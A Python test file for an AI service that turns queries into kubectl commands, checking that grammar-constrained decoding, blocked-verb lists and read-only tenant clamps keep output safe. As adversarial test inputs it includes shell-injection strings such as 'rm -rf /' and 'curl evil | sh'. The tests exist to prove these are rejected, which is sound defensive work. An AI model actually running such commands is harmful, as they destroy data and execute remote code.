"""Grammar-constrained decoding (ISSUE 11): the kubectl byte DFA, the
tokenizer-composed token FSM, device-side masking, forced-run
fast-forward, the safety inclusion property, tenant clamping over HTTP,
and the detokenizer round-trip audit at forced-run boundaries.

The FakeChunkedEngine runs the SAME GrammarRuntime/TokenFSM compile and
the same host-stepping semantics as the jitted scan, so the grammar
invariants (never an off-grammar token, dead ends trip the health lane,
forced splices keep the pool books balanced) run here in milliseconds;
the jax tests at the bottom pin the real engine's parity claims.
"""

import asyncio

import numpy as np
import pytest

from ai_agent_kubectl_tpu.constrain import (
    BLOCKED_VERBS, GrammarContext, GrammarRuntime, READONLY_VERBS,
    assert_safety_consistent, build_kubectl_dfa, compile_token_fsm,
    profile_verbs, sample_accepted, use_grammar)
from ai_agent_kubectl_tpu.constrain.grammar import DEAD, START
from ai_agent_kubectl_tpu.engine.fake import FakeChunkedEngine
from ai_agent_kubectl_tpu.engine.protocol import RequestQuarantined
from ai_agent_kubectl_tpu.engine.qos import QoSContext, use_qos
from ai_agent_kubectl_tpu.engine.tokenizer import ByteTokenizer, StreamDecoder
from ai_agent_kubectl_tpu.server.safety import unsafe_reason

TOK = ByteTokenizer()


def enc(s: str):
    return TOK.encode(s, add_bos=False)


def mk_runtime(**kw):
    kw.setdefault("profile", "default")
    kw.setdefault("forced_run_min", 2)
    return GrammarRuntime(TOK, TOK.vocab_size, TOK.eos_ids, **kw)


def mk_fake(**kw):
    kw.setdefault("grammar_decode", True)
    kw.setdefault("grammar_forced_run_min", 2)
    return FakeChunkedEngine(**kw)


def stream_for(text: str):
    ids = enc(text) + [TOK.eos_ids[0]]
    return lambda prompt: list(ids)


# ------------------------------------------------------------- char DFA


def test_dfa_accepts_and_rejects():
    dfa = build_kubectl_dfa()
    good = [
        "kubectl get pods",
        "kubectl get pods -n kube-system -o wide",
        "kubectl describe deployment web",
        "kubectl logs web-1 --tail=100",
        "kubectl scale deployment web --replicas=3",
        "kubectl get pods/web-1",
        "kubectl version",
    ]
    bad = [
        "kubectl",                       # safety: needs "kubectl "
        "kubectl  get",                  # double space
        "kubectl exec -it web-1 sh",     # blocked verb
        "kubectl get pods; rm -rf /",    # metacharacter
        "kubectl get pods | grep x",
        "kubectl frobnicate pods",       # unknown verb
        "helm install web",
        "kubectl get 'pods",             # quote (unclosed or not)
    ]
    for s in good:
        st = dfa.run(s.encode())
        assert st != DEAD and dfa.accept[st], s
    for s in bad:
        st = dfa.run(s.encode())
        assert st == DEAD or not dfa.accept[st], s


def test_readonly_profile_excludes_mutating_and_blocked():
    ro = set(profile_verbs("readonly"))
    assert ro == set(READONLY_VERBS)
    assert not ro & set(BLOCKED_VERBS)
    dfa = build_kubectl_dfa(profile_verbs("readonly"))
    st = dfa.run(b"kubectl delete pods web-1")
    assert st == DEAD
    st = dfa.run(b"kubectl get pods")
    assert st != DEAD and dfa.accept[st]
    with pytest.raises(ValueError):
        build_kubectl_dfa(["get", "exec"])   # blocked verb refused


def test_safety_property_grammar_subset_of_safe():
    """THE inclusion satellite: N random FSM-accepted strings all pass
    server/safety.py — the grammar makes unsafe output unrepresentable,
    so safety can only ever fire on the unconstrained path."""
    dfa = build_kubectl_dfa()
    n = 0
    for seed in range(500):
        s = sample_accepted(dfa, seed)
        if not s:
            continue
        n += 1
        assert unsafe_reason(s) is None, (s, unsafe_reason(s))
    assert n > 400     # the generator must actually produce sentences
    assert_safety_consistent()   # the boot-time cross-check satellite


def test_blocked_verbs_fail_safety():
    for verb in BLOCKED_VERBS:
        assert unsafe_reason(f"kubectl {verb} web-1") is not None


# ------------------------------------------------------------ token FSM


def test_token_fsm_walks_and_forced_runs():
    dfa = build_kubectl_dfa()
    fsm = compile_token_fsm(dfa, TOK, 512, TOK.eos_ids)
    assert fsm.in_grammar(enc("kubectl get pods -o wide"))
    assert not fsm.in_grammar(enc("kubectl get pods; ls"))
    assert not fsm.in_grammar(enc("rm -rf /"))
    # The forced chain from START is exactly "kubectl " (8 byte tokens).
    run, ends_eos, end = fsm.forced_run(START, 64)
    assert bytes(t - TOK.SPECIALS for t in run) == b"kubectl "
    assert not ends_eos
    # EOS is legal exactly at accept states.
    s = fsm.run(enc("kubectl get pods"))
    assert fsm.allowed(s)[TOK.eos_ids[0]]
    s2 = fsm.run(enc("kubectl ge"))
    assert not fsm.allowed(s2)[TOK.eos_ids[0]]
    # Out-of-tokenizer ids (toy models over-allocate vocab) are never
    # legal anywhere.
    assert not fsm.allowed(START)[300]
    assert not fsm.allowed(s)[511]


def test_runtime_stacked_tables_agree_with_fsm():
    """The stacked [P*S, C] device tables must step exactly like the
    per-variant FSM objects — the device trajectory IS the host one."""
    rt = mk_runtime()
    for pid in (0, 1):
        gs = rt.start_state(pid)
        for t in enc("kubectl get pods"):
            # table walk
            p = gs // rt.S_max
            cls = rt.tok_class[p, t]
            assert rt.class_ok[gs, cls]
            gs_tbl = int(rt.class_next[gs, cls])
            gs = rt.advance(gs, t)
            assert gs == gs_tbl
        assert not rt.is_dead(gs)


def test_runtime_resolution_and_variants():
    rt = mk_runtime()
    base = rt.resolve(lane="interactive")
    ro = rt.resolve(lane="background")          # tier clamp
    ro2 = rt.resolve(lane="interactive",
                     ctx=GrammarContext(profile="readonly"))
    assert base != ro and ro == ro2
    # readonly grammar really drops the mutating verbs.
    assert rt.in_grammar(base, enc("kubectl delete pods web"))
    assert not rt.in_grammar(ro, enc("kubectl delete pods web"))
    # Allowed-verbs narrowing installs a variant once and reuses it.
    ctx = GrammarContext(allowed_verbs=frozenset({"get", "logs"}))
    v1 = rt.resolve(lane="interactive", ctx=ctx)
    v2 = rt.resolve(lane="interactive", ctx=ctx)
    assert v1 == v2 and v1 not in (base, ro)
    assert rt.in_grammar(v1, enc("kubectl get pods"))
    assert not rt.in_grammar(v1, enc("kubectl describe pods"))
    # Validation: a verb outside the clamped profile is an error string,
    # and the middleware runs the SAME rule (validate_restriction).
    from ai_agent_kubectl_tpu.constrain import validate_restriction

    assert rt.validate_verbs({"get"}, lane="interactive") is None
    assert rt.validate_verbs({"delete"}, lane="background") is not None
    assert rt.validate_verbs({"frobnicate"}) is not None
    assert validate_restriction(
        "default", "background",
        GrammarContext(allowed_verbs=frozenset({"delete"}))) is not None
    # Under the permissive A/B profile a verb restriction cannot be
    # enforced — refused, never silently dropped (review finding).
    assert validate_restriction(
        "permissive", "interactive",
        GrammarContext(allowed_verbs=frozenset({"get"}))) is not None
    perm = mk_runtime(profile="permissive")
    assert perm.validate_verbs({"get"}) is not None


def test_runtime_variant_overflow_falls_back():
    rt = mk_runtime(max_profiles=2)   # base + readonly fill every slot
    base = rt.resolve(lane="interactive")
    pid = rt.resolve(lane="interactive",
                     ctx=GrammarContext(allowed_verbs=frozenset({"get"})))
    assert pid == base                # no slot left -> clamped base
    assert rt.fallbacks >= 1
    assert rt.health()["variant_fallbacks"] >= 1


# ------------------------------------------------ packed legality (ISSUE 28)


def _unpacked(bits: np.ndarray, n_classes: int) -> np.ndarray:
    """[R, words] uint32 → [R, n_classes] bool, the plain reading of the
    packing: class ``c`` is bit ``c & 31`` of word ``c >> 5``."""
    c = np.arange(n_classes)
    return ((bits[:, c >> 5] >> (c & 31).astype(np.uint32)) & 1).astype(bool)


def _device_mask(bits, tok_class, gs, s_max) -> np.ndarray:
    import jax.numpy as jnp

    from ai_agent_kubectl_tpu.engine.batcher import grammar_legal_mask

    tc = jnp.asarray(tok_class)[jnp.asarray(gs) // s_max]
    return np.asarray(grammar_legal_mask(jnp.asarray(bits),
                                         jnp.asarray(gs), tc))


def _case_profile_rows(name):
    def check():
        rt = mk_runtime()
        pid = rt.resolve(lane="background" if name == "readonly"
                         else "interactive")
        rows = slice(pid * rt.S_max, (pid + 1) * rt.S_max)
        assert rt.fsm(pid).n_states > 100
        assert np.array_equal(_unpacked(rt.class_ok_bits[rows], rt.C_max),
                              rt.class_ok[rows])
        # ...and through the FSM object: every state's legal set.
        fsm = rt.fsm(pid)
        got = _unpacked(rt.class_ok_bits[rows], fsm.n_classes)
        assert np.array_equal(got[:fsm.n_states], fsm.class_ok)
    return check


def _case_variant_after_start():
    rt = mk_runtime()
    v0, _, bits0, _ = rt.snapshot_tables()
    pid = rt.resolve(lane="interactive", ctx=GrammarContext(
        allowed_verbs=frozenset({"get", "logs"})))
    assert pid == 2 and rt.version == v0 + 1     # ONE version, both tables
    v1, tc, bits1, _ = rt.snapshot_tables()
    assert v1 == rt.version
    rows = slice(pid * rt.S_max, (pid + 1) * rt.S_max)
    assert not bits0[rows].any() and bits1[rows].any()
    assert np.array_equal(bits1[:pid * rt.S_max], bits0[:pid * rt.S_max])
    assert np.array_equal(_unpacked(bits1, rt.C_max), rt.class_ok)
    # the variant's own walk, read off the packed rows
    gs = rt.start_state(pid)
    for t in enc("kubectl get pods"):
        cls = tc[pid, t]
        assert (bits1[gs, cls >> 5] >> (cls & 31)) & 1
        gs = rt.advance(gs, t)
    cls = tc[pid, enc("d")[0]]       # "kubectl d..." is outside the subset
    gs = rt.run(pid, enc("kubectl "))
    assert not (bits1[gs, cls >> 5] >> (cls & 31)) & 1


def _case_padding_bits_zero():
    rt = mk_runtime()
    words = rt.class_ok_bits.shape[1]
    assert rt.C_max % 32 and words == -(-rt.C_max // 32)   # 50 classes, 2 words
    beyond = _unpacked(rt.class_ok_bits, words * 32)[:, rt.C_max:]
    assert beyond.shape[1] == words * 32 - rt.C_max and not beyond.any()
    # rows past a variant's states and the profile slots nothing fills
    for pid in (0, 1):
        n = rt.fsm(pid).n_states
        assert not rt.class_ok_bits[pid * rt.S_max + n:(pid + 1) * rt.S_max].any()
    assert not rt.class_ok_bits[2 * rt.S_max:].any()


def _case_dead_state_row():
    rt = mk_runtime()
    for pid in (0, 1):
        assert not rt.class_ok_bits[pid * rt.S_max + DEAD].any()
        assert rt.class_ok_bits[rt.start_state(pid)].any()
    gs = np.asarray([DEAD, rt.start_state(0), rt.S_max + DEAD], np.int32)
    mask = _device_mask(rt.class_ok_bits, rt.tok_class, gs, rt.S_max)
    assert not mask[0].any() and mask[1].any() and not mask[2].any()


def _case_pack_widths():
    from ai_agent_kubectl_tpu.constrain.runtime import pack_class_bits

    rng = np.random.default_rng(28)
    for n_classes in (1, 31, 32, 33, 64, 455):
        ok = rng.random((9, n_classes)) < 0.3
        bits = pack_class_bits(ok)
        assert bits.dtype == np.uint32
        assert bits.shape == (9, -(-n_classes // 32))
        assert np.array_equal(_unpacked(bits, n_classes), ok)
        assert not _unpacked(bits, bits.shape[1] * 32)[:, n_classes:].any()


def _case_device_mask_mixed_profiles():
    rt = mk_runtime()
    ro = rt.resolve(lane="background")
    var = rt.resolve(lane="interactive", ctx=GrammarContext(
        allowed_verbs=frozenset({"get", "delete"})))
    states = [rt.start_state(0), rt.run(0, enc("kubectl de")),
              rt.run(ro, enc("kubectl de")), rt.run(var, enc("kubectl de")),
              rt.run(ro, enc("kubectl get po")), ro * rt.S_max + DEAD,
              rt.run(var, enc("kubectl delete ")),
              rt.run(0, enc("kubectl get pods -n "))]
    gs = np.asarray(states, np.int32)
    _, tok_class, bits, _ = rt.snapshot_tables()
    want = np.take_along_axis(rt.class_ok[gs], tok_class[gs // rt.S_max], 1)
    got = _device_mask(bits, tok_class, gs, rt.S_max)
    assert got.dtype == bool and np.array_equal(got, want)
    for row, g in zip(got, states):
        assert np.array_equal(row, rt.allowed_np(int(g)))
    # "de|lete" against "de|scribe": default, readonly, the subset
    el, s = enc("l")[0], enc("s")[0]
    assert got[1, el] and not got[2, el] and got[3, el]
    assert got[1, s] and got[2, s] and not got[3, s]


def _case_device_mask_fifteen_words():
    """The shipped tokenizer's shapes cut down in rows only: 455 classes
    are 15 words, so the select chain runs at its real length."""
    from ai_agent_kubectl_tpu.constrain.runtime import pack_class_bits

    rng = np.random.default_rng(5)
    n_prof, s_max, n_classes, vocab, batch = 3, 40, 455, 2000, 16
    ok = rng.random((n_prof * s_max, n_classes)) < 0.1
    tok_class = rng.integers(0, n_classes, (n_prof, vocab)).astype(np.int32)
    tok_class[:, :n_classes] = np.arange(n_classes)     # every class is used
    gs = rng.integers(0, n_prof * s_max, batch).astype(np.int32)
    want = np.take_along_axis(ok[gs], tok_class[gs // s_max], 1)
    got = _device_mask(pack_class_bits(ok), tok_class, gs, s_max)
    assert np.array_equal(got, want)


@pytest.mark.parametrize("case", [
    pytest.param(_case_profile_rows("default"), id="default-every-state"),
    pytest.param(_case_profile_rows("readonly"), id="readonly-every-state"),
    pytest.param(_case_variant_after_start, id="variant-after-start"),
    pytest.param(_case_padding_bits_zero, id="padding-bits-zero"),
    pytest.param(_case_dead_state_row, id="dead-state-row"),
    pytest.param(_case_pack_widths, id="widths-not-multiples-of-32"),
    pytest.param(_case_device_mask_mixed_profiles,
                 id="device-mask-mixed-profiles"),
    pytest.param(_case_device_mask_fifteen_words,
                 id="device-mask-fifteen-words"),
])
def test_packed_legality_equals_class_ok(case):
    """ISSUE 28: the device holds ``class_ok`` bit-packed
    (``class_ok_bits``, written by the same install as ``class_ok``) and
    ``grammar_legal_mask`` tests each vocabulary entry's bit. Both must
    say exactly what ``class_ok`` says, entry for entry: the mask is the
    same work in another form, so no transcript may move."""
    case()


# ------------------------------------------------------- masked sampling


def test_masked_sampling_parity_when_winner_legal():
    """The gumbel/argmax property the A/B acceptance rides on: masking
    changes nothing when the unconstrained winner is legal, and never
    emits an illegal token when it is not (same key stream, both
    temperatures)."""
    import jax.numpy as jnp

    from ai_agent_kubectl_tpu.engine.sampling import sample_tokens_seeded

    rng = np.random.default_rng(0)
    logits = jnp.asarray(rng.normal(size=(4, 64)).astype(np.float32))
    seeds = jnp.asarray([1, 2, 3, 4], jnp.int32)
    ngen = jnp.asarray([0, 5, 9, 2], jnp.int32)
    for temp in (0.0, 0.9):
        temps = jnp.full((4,), temp, jnp.float32)
        un = sample_tokens_seeded(logits, seeds, ngen, temps)
        # Mask that keeps every row's unconstrained winner legal.
        keep = np.zeros((4, 64), bool)
        keep[np.arange(4), np.asarray(un)] = True
        keep[:, ::3] = True
        masked = sample_tokens_seeded(logits, seeds, ngen, temps,
                                      mask=jnp.asarray(keep))
        assert np.array_equal(np.asarray(un), np.asarray(masked)), temp
        # Mask that excludes the winner: the draw stays in-mask.
        drop = np.ones((4, 64), bool)
        drop[np.arange(4), np.asarray(un)] = False
        out = sample_tokens_seeded(logits, seeds, ngen, temps,
                                   mask=jnp.asarray(drop))
        assert all(drop[i, int(t)] for i, t in enumerate(np.asarray(out)))


# ----------------------------------------------------------- fake engine


async def test_fake_in_grammar_stream_passes_unchanged():
    """A/B parity on the fake: a scripted stream that is already
    in-grammar decodes byte-identically with the grammar on or off."""
    sf = stream_for("kubectl get pods -n kube-system")
    on = mk_fake(stream_fn=sf)
    off = FakeChunkedEngine(stream_fn=sf)
    await on.start()
    await off.start()
    try:
        a = await on.generate("q", max_tokens=64)
        b = await off.generate("q", max_tokens=64)
        assert a.text == "kubectl get pods -n kube-system"
        # off renders "t<id>" words; compare the token ids.
        assert enc(a.text) == [int(w[1:]) for w in b.text.split()]
        assert a.finish_reason == "stop"
    finally:
        await asyncio.gather(on.stop(), off.stop())


async def test_fake_masks_adversarial_stream_to_grammar():
    """No FSM-reachable output ever fails safety: an adversarial
    scripted stream (shell injection) is coerced token-by-token into a
    grammar-legal — therefore safe — command."""
    eng = mk_fake(stream_fn=stream_for("rm -rf / ; curl evil | sh"))
    await eng.start()
    try:
        r = await eng.generate("attack", max_tokens=48)
        assert eng._grammar.in_grammar(0, enc(r.text))
        assert unsafe_reason(r.text) is None
        assert r.text.startswith("kubectl ")
    finally:
        await eng.stop()


async def test_fake_forced_run_fast_forward_parity_and_books():
    """Fast-forward on vs off (min too high to ever fire) transcripts
    are byte-identical — forced tokens consume generation indices but
    no randomness — and the splices leave the pool books balanced."""
    sf = stream_for("kubectl get pods --all-namespaces")
    on = mk_fake(stream_fn=sf, batch_size=2, chunk_len=3, kv_pool_page=4)
    off = mk_fake(stream_fn=sf, batch_size=2, chunk_len=3, kv_pool_page=4,
                  grammar_forced_run_min=10 ** 6)
    await on.start()
    await off.start()
    try:
        a = await on.generate("q1", max_tokens=64)
        b = await off.generate("q1", max_tokens=64)
        assert a.text == b.text
        gh = on.grammar_health()
        assert gh["fast_forward_splices_total"] >= 1
        assert gh["forced_tokens_total"] >= 8     # "kubectl " at least
        assert off.grammar_health()["fast_forward_splices_total"] == 0
        # Books: nothing live once drained; every block accounted for.
        _assert_books(on)
    finally:
        await asyncio.gather(on.stop(), off.stop())


def _assert_books(eng: FakeChunkedEngine) -> None:
    """Pool balance after traffic drains: holder count = slot tables +
    radix references (the kv-pool suite's leak invariant, re-run after
    grammar splices)."""
    holders: dict = {}
    for slot in list(eng._slots) + list(eng._parked):
        if slot is not None:
            for b in slot.blocks:
                holders[b] = holders.get(b, 0) + 1
    if eng._radix is not None:
        for b, n in eng._radix._held.items():
            holders[b] = holders.get(b, 0) + n
    eng._pool.check(holders)


async def test_fake_dead_end_trips_health_lane():
    """An off-grammar resume prefix replays into a DEAD FSM state: the
    next chunk has no legal token, the slot freezes on the grammar
    health bit, and the quarantine lane (not a garbage emission) ends
    the request."""
    eng = mk_fake(stream_fn=stream_for("kubectl get pods"),
                  quarantine_retry_budget=0)
    await eng.start()
    try:
        with pytest.raises(RequestQuarantined):
            async for _ in eng.stream_events(
                    "q", max_tokens=32,
                    resume_ids=enc("not kubectl at all")):
                pass
        gh = eng.grammar_health()
        assert gh["dead_ends_total"].get("decode", 0) >= 1
        assert eng.stats()["containment"]["quarantined"]
    finally:
        await eng.stop()


async def test_fake_readonly_clamp_via_background_lane():
    """The TENANT_TIERS clamp end-to-end at the engine seam: a
    background-lane submission is resolved onto the readonly grammar,
    so a mutating scripted stream comes out observation-only."""
    eng = mk_fake(stream_fn=stream_for("kubectl delete pods web-1"))
    await eng.start()
    try:
        with use_qos(QoSContext(tenant="bg", lane="background")):
            r = await eng.generate("q", max_tokens=48)
        verb = r.text.split()[1]
        assert verb in READONLY_VERBS, r.text
        # The same stream under the default profile keeps its verb.
        r2 = await eng.generate("q", max_tokens=48)
        assert r2.text.split()[1] == "delete"
    finally:
        await eng.stop()


async def test_fake_grammar_under_chaos_drills():
    """The CI smoke body: decode:nan and tenant:flood drills with the
    grammar on — every surviving transcript stays in-grammar, the books
    balance after the recovery matrix, and conservation holds."""
    from ai_agent_kubectl_tpu.testing.faults import FaultInjector

    inj = FaultInjector()
    inj.set("decode", "nan")
    inj.target_substr = "poison"
    eng = mk_fake(batch_size=4, chunk_len=3, kv_pool_page=4, faults=inj,
                  quarantine_retry_budget=0)
    await eng.start()
    try:
        async def one(prompt, expect_quarantine=False):
            try:
                r = await eng.generate(prompt, max_tokens=24)
                assert eng._grammar.in_grammar(0, enc(r.text)), r.text
            except RequestQuarantined:
                assert expect_quarantine
        await asyncio.gather(
            one("poison me", expect_quarantine=True),
            one("innocent a"), one("innocent b"), one("innocent c"))
        # tenant:flood drill: the flood's synthetic requests decode
        # under the grammar too (gpid resolution happens engine-side).
        inj2 = FaultInjector()
        inj2.set("tenant", "flood", arg=3)
        eng2 = mk_fake(batch_size=2, chunk_len=3, kv_pool_page=4,
                       faults=inj2)
        await eng2.start()
        r = await eng2.generate("after flood", max_tokens=24)
        assert eng2._grammar.in_grammar(0, enc(r.text))
        for e in (eng, eng2):
            for t in range(200):
                if all(s is None for s in e._slots) and not e._queue:
                    break
                await asyncio.sleep(0.01)
            _assert_books(e)
            assert e.ledger.conservation()["balanced"]
        await eng2.stop()
    finally:
        await eng.stop()


# ------------------------------------------------------------- HTTP layer


async def _client(cfg, engine):
    from aiohttp.test_utils import TestClient, TestServer

    from ai_agent_kubectl_tpu.server.app import create_app
    from ai_agent_kubectl_tpu.server.executor import CommandExecutor

    app = create_app(cfg, engine, executor=CommandExecutor(timeout=1.0))
    client = TestClient(TestServer(app))
    await client.start_server()
    return client


async def test_http_readonly_tenant_cannot_mutate():
    """THE end-to-end acceptance: a tenant whose TENANT_TIERS tier is
    background is clamped onto the read-only grammar — a mutating
    scripted stream cannot produce a mutating verb over HTTP, while an
    interactive tenant's identical stream can."""
    from ai_agent_kubectl_tpu.config import ServiceConfig

    cfg = ServiceConfig(engine="fake", model_name="fake",
                        grammar_decode=True,
                        tenant_tiers="bg-key:background,hi-key:interactive")
    engine = mk_fake(stream_fn=stream_for("kubectl delete pods web-1"))
    client = await _client(cfg, engine)
    try:
        await engine.start()
        r = await client.post("/kubectl-command",
                              json={"query": "remove the web pods"},
                              headers={"X-API-Key": "bg-key"})
        assert r.status == 200, await r.text()
        body = await r.json()
        cmd = body["kubectl_command"]
        assert cmd.startswith("kubectl ")
        assert cmd.split()[1] in READONLY_VERBS, cmd
        r2 = await client.post("/kubectl-command",
                               json={"query": "remove the web pods"},
                               headers={"X-API-Key": "hi-key"})
        body2 = await r2.json()
        assert body2["kubectl_command"].split()[1] == "delete"
    finally:
        await engine.stop()
        await client.close()


async def test_http_allowed_verbs_validation_and_narrowing():
    from ai_agent_kubectl_tpu.config import ServiceConfig

    cfg = ServiceConfig(engine="fake", model_name="fake",
                        grammar_decode=True)
    engine = mk_fake(stream_fn=stream_for("kubectl delete pods web-1"))
    client = await _client(cfg, engine)
    try:
        await engine.start()
        # Unknown verb -> 400 at admission.
        r = await client.post("/kubectl-command",
                              json={"query": "do things"},
                              headers={"X-Allowed-Verbs": "get,frobnicate"})
        assert r.status == 400
        # Bogus profile -> 400.
        r = await client.post("/kubectl-command",
                              json={"query": "do things"},
                              headers={"X-Grammar-Profile": "yolo"})
        assert r.status == 400
        # A valid narrowing coerces the mutating stream into the subset.
        r = await client.post("/kubectl-command",
                              json={"query": "do things"},
                              headers={"X-Allowed-Verbs": "get,logs"})
        assert r.status == 200, await r.text()
        cmd = (await r.json())["kubectl_command"]
        assert cmd.split()[1] in ("get", "logs"), cmd
    finally:
        await engine.stop()
        await client.close()


async def test_http_permissive_profile_refuses_verb_restriction():
    """Review finding: under GRAMMAR_PROFILE=permissive an
    X-Allowed-Verbs restriction cannot be enforced (the A/B profile
    runs the unconstrained language) — 400, never a silent drop."""
    from ai_agent_kubectl_tpu.config import ServiceConfig

    cfg = ServiceConfig(engine="fake", model_name="fake",
                        grammar_decode=True,
                        grammar_profile="permissive")
    engine = mk_fake(grammar_profile="permissive",
                     stream_fn=stream_for("kubectl delete pods web-1"))
    client = await _client(cfg, engine)
    try:
        await engine.start()
        r = await client.post("/kubectl-command",
                              json={"query": "do things"},
                              headers={"X-Allowed-Verbs": "get"})
        assert r.status == 400
        body = await r.json()
        assert "permissive" in body["detail"]
    finally:
        await engine.stop()
        await client.close()


async def test_http_grammar_headers_rejected_when_off():
    from ai_agent_kubectl_tpu.config import ServiceConfig

    cfg = ServiceConfig(engine="fake", model_name="fake")
    engine = FakeChunkedEngine()
    client = await _client(cfg, engine)
    try:
        await engine.start()
        r = await client.post("/kubectl-command",
                              json={"query": "list the pods"},
                              headers={"X-Allowed-Verbs": "get"})
        assert r.status == 400
    finally:
        await engine.stop()
        await client.close()


async def test_health_and_metrics_expose_grammar():
    from ai_agent_kubectl_tpu.config import ServiceConfig

    cfg = ServiceConfig(engine="fake", model_name="fake",
                        grammar_decode=True)
    engine = mk_fake(stream_fn=stream_for("kubectl get pods -o wide"))
    client = await _client(cfg, engine)
    try:
        await engine.start()
        await engine.generate("q", max_tokens=48)
        h = await client.get("/health")
        body = await h.json()
        assert body["grammar"] is not None
        assert body["grammar"]["profile"] == "default"
        assert len(body["grammar"]["grammar_hash"]) == 12
        assert body["grammar"]["states"] > 100
        assert body["grammar"]["forced_tokens_total"] >= 8
        m = await client.get("/metrics")
        text = await m.text()
        assert "grammar_forced_tokens_total" in text
        assert "grammar_masked_steps_total" in text
        # No grammar section on a grammar-off engine.
        off = FakeChunkedEngine()
        assert off.grammar_health() is None
        assert off.stats()["grammar"] is None
    finally:
        await engine.stop()
        await client.close()


def test_config_validates_grammar_knobs():
    from ai_agent_kubectl_tpu.config import ServiceConfig

    with pytest.raises(ValueError):
        ServiceConfig(grammar_profile="bogus")
    with pytest.raises(ValueError):
        ServiceConfig(grammar_forced_run_min=0)
    with pytest.raises(ValueError):
        ServiceConfig(grammar_decode=True, device_termination=False)
    cfg = ServiceConfig(grammar_decode=True, grammar_profile="readonly")
    assert cfg.grammar_decode


# --------------------------------------- detokenizer round-trip (audit)


def test_stream_decoder_forced_run_boundary_roundtrip():
    """ISSUE 11 fix-en-route audit: a forced run can end mid-codepoint
    (multi-byte UTF-8 split across a splice boundary); the detokenizer's
    hold-back must keep the partial bytes until the next push resolves
    them — no transient U+FFFD, concatenation equals the full decode."""
    rng = np.random.default_rng(7)
    samples = [
        "kubectl get pods",
        "kubectl annotate pods web-1 note=café",       # 2-byte
        "kubectl label ns prod owner=日本語",   # 3-byte
        "kubectl get pods \U0001f680\U0001f680",            # 4-byte
        "é" * 10 + "x" + "世界",
    ]
    for text in samples:
        ids = TOK.encode(text, add_bos=False)
        for _ in range(8):
            # Random split into pushes, including multi-token "forced
            # run" batches, at arbitrary (codepoint-splitting) offsets.
            dec = StreamDecoder(TOK)
            pieces = []
            i = 0
            while i < len(ids):
                n = int(rng.integers(1, 9))
                piece = dec.push(*ids[i:i + n])
                if piece is not None:
                    assert "�" not in piece, (text, piece)
                    pieces.append(piece)
                i += n
            tail = dec.flush()
            if tail is not None:
                pieces.append(tail)
            assert "".join(pieces) == text


def test_stream_decoder_genuine_garbage_still_released():
    """The audit must not break the garbage-release path: truly invalid
    bytes (not a split codepoint) are still emitted as U+FFFD once
    enough context arrives, and flush releases a dangling tail."""
    dec = StreamDecoder(TOK)
    out = []
    for t in enc("ok ") + [0xFF + TOK.SPECIALS] + enc(" fine"):
        p = dec.push(t)
        if p is not None:
            out.append(p)
    tail = dec.flush()
    if tail is not None:
        out.append(tail)
    assert "".join(out) == "ok � fine"


# ------------------------------------------------------------ jax engine


def _mk_jax(**kw):
    from ai_agent_kubectl_tpu.engine.batcher import BatchedJaxEngine
    from ai_agent_kubectl_tpu.models.config import get_config

    defaults = dict(dtype="float32", max_seq_len=192,
                    prefill_buckets=(32, 64), prefix_cache=False,
                    batch_size=4, chunk_len=4)
    defaults.update(kw)
    return BatchedJaxEngine(get_config("toy-8m"), tokenizer=ByteTokenizer(),
                            **defaults)


async def test_jax_constrained_output_in_grammar_and_forced():
    """The real engine under the mask: a random-init toy model —
    unconstrained it emits byte noise — produces only grammar-legal
    kubectl commands at temp 0 AND seeded 0.9, the admission forced run
    splices "kubectl " without decoding it, and the pool books balance
    after the traffic drains."""
    eng = _mk_jax(grammar_decode=True, grammar_forced_run_min=2)
    await eng.start()
    try:
        for prompt, temp, seed in [("list pods", 0.0, 7),
                                   ("scale web", 0.9, 123),
                                   ("get svc", 0.9, 5)]:
            r = await eng.generate(prompt, max_tokens=24,
                                   temperature=temp, seed=seed)
            ids = eng.tokenizer.encode(r.text, add_bos=False)
            assert eng._grammar.in_grammar(0, ids), (prompt, r.text)
            assert r.text.startswith("kubectl ")
            # Every grammar prefix is safe by construction — safety can
            # only ever fire on the unconstrained path.
            assert unsafe_reason(r.text) is None, r.text
        gh = eng.grammar_health()
        assert gh["fast_forward_splices_total"] >= 3
        assert gh["forced_tokens_total"] >= 24
        assert gh["masked_steps_total"] > 0
        holders: dict = {}
        for slot in list(eng._slots) + list(eng._parked):
            if slot is not None and slot.blocks:
                for b in slot.blocks:
                    holders[b] = holders.get(b, 0) + 1
        if eng._radix is not None:
            for b, n in eng._radix._held.items():
                holders[b] = holders.get(b, 0) + n
        eng._pool.check(holders)
    finally:
        await eng.stop()


async def test_jax_fast_forward_on_off_byte_identity():
    """Fast-forward on vs off: byte-identical transcripts (forced
    tokens never consume randomness; the RNG stream re-aligns via
    fold_in(seed, generation_index)) with strictly fewer decode steps
    on the spliced path."""
    on = _mk_jax(grammar_decode=True, grammar_forced_run_min=2)
    off = _mk_jax(grammar_decode=True, grammar_forced_run_min=10 ** 6)
    await on.start()
    off.tokenizer = on.tokenizer
    await off.start()
    try:
        for prompt, temp, seed in [("list pods", 0.0, 3),
                                   ("restart web", 0.9, 99)]:
            a = await on.generate(prompt, max_tokens=24,
                                  temperature=temp, seed=seed)
            b = await off.generate(prompt, max_tokens=24,
                                   temperature=temp, seed=seed)
            assert a.text == b.text, (prompt, temp)
        assert on.grammar_health()["fast_forward_splices_total"] >= 2
        assert off.grammar_health()["fast_forward_splices_total"] == 0
        # The decode-step cut: spliced tokens never ran a masked step.
        assert (on.grammar_health()["masked_steps_total"]
                < off.grammar_health()["masked_steps_total"])
    finally:
        await asyncio.gather(on.stop(), off.stop())


async def test_jax_permissive_profile_matches_unconstrained():
    """GRAMMAR_DECODE=true A/B gate: the permissive profile runs the
    full grammar plumbing (mask gathers, FSM carry, forced-run checks)
    with the unconstrained language — transcripts must be byte-identical
    to GRAMMAR_DECODE=false at temp 0 and seeded 0.9."""
    perm = _mk_jax(grammar_decode=True, grammar_profile="permissive")
    plain = _mk_jax()
    await perm.start()
    plain.tokenizer = perm.tokenizer
    await plain.start()
    try:
        for prompt, temp, seed in [("hello", 0.0, 1), ("world", 0.9, 2)]:
            a = await perm.generate(prompt, max_tokens=16,
                                    temperature=temp, seed=seed)
            b = await plain.generate(prompt, max_tokens=16,
                                     temperature=temp, seed=seed)
            assert a.text == b.text, (prompt, temp)
    finally:
        await asyncio.gather(perm.stop(), plain.stop())
